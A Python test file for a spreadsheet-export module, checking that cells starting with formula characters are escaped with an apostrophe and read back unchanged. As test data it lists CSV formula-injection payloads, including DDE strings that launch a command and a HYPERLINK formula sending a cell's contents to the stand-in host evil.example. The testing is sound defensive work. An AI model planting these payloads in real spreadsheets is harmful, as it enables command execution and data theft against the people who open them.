"""What a spreadsheet would run is spelled so that it does not, and comes back as it was."""

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from memory_imports.tables.formulas import read_back, spelled
from memory_imports.tables.rejects import Rejects
from memory_imports.tables.sources import open_table

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+HYPERLINK(1)",
    "＝1+1",  # noqa: RUF001 - what some keyboards write
)
cells = st.text() | st.sampled_from(ATTACKS) | st.builds("'{}".format, st.sampled_from(ATTACKS))


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_is_shown_and_not_run(cell: str) -> None:
    """Whatever a cell starts with that a spreadsheet takes for one."""
    assert f"'{cell}" == spelled(cell)


@pytest.mark.parametrize(
    "cell", ["", "+44 20 7946 0000", "-5", "-", "+1 (555) 010-99", "a=b", "x@y.example", "'quoted'"]
)
def test_what_runs_nothing_stays_as_it_is(cell: str) -> None:
    """Phone numbers and amounts first of all."""
    assert cell == spelled(cell) == read_back(cell)


@given(cells)
def test_nothing_is_lost(cell: str) -> None:
    """And nothing that comes out would run."""
    assert cell == read_back(spelled(cell))
    assert spelled(cell)[:1] not in {*"=@\t\r\n", "＝", "＠"}  # noqa: RUF001 - the wide ones, too


@given(
    names=st.lists(cells, min_size=1, max_size=3), rows=st.lists(st.lists(cells, min_size=3, max_size=3), max_size=3)
)
def test_a_file_of_rejected_rows_is_imported_as_it_was(
    tmp_path_factory: pytest.TempPathFactory, names: list[str], rows: list[list[str]]
) -> None:
    """Names of columns included; what no text file can hold is no part of this."""
    path = tmp_path_factory.mktemp("rejects") / "r.csv"
    clean = [_clean(name) for name in names]
    with Rejects(path, []) as rejects:
        rejects.begin(clean)
        for number, row in enumerate(rows, 1):
            rejects.add(("=evil.csv", number, number + 1), ["blank_cell"], [_clean(cell) for cell in row][: len(clean)])
        rejects.keep()
    with path.open(encoding="utf-8", newline="") as stream:
        assert [] == [cell for row in csv.reader(stream) for cell in row if cell[:1] in {*"=@\t\r\n"}]
    with open_table(path) as table:
        assert ("file", "row", "line", "problems", *clean) == table.header
        assert not table.as_is
        read = [record.cells[4:] for record in table.rows()]
    assert [[_clean(cell) for cell in row][: len(clean)] for row in rows] == read


def _clean(cell: str) -> str:
    return cell.replace("\0", "").encode("utf-8", "backslashreplace").decode()
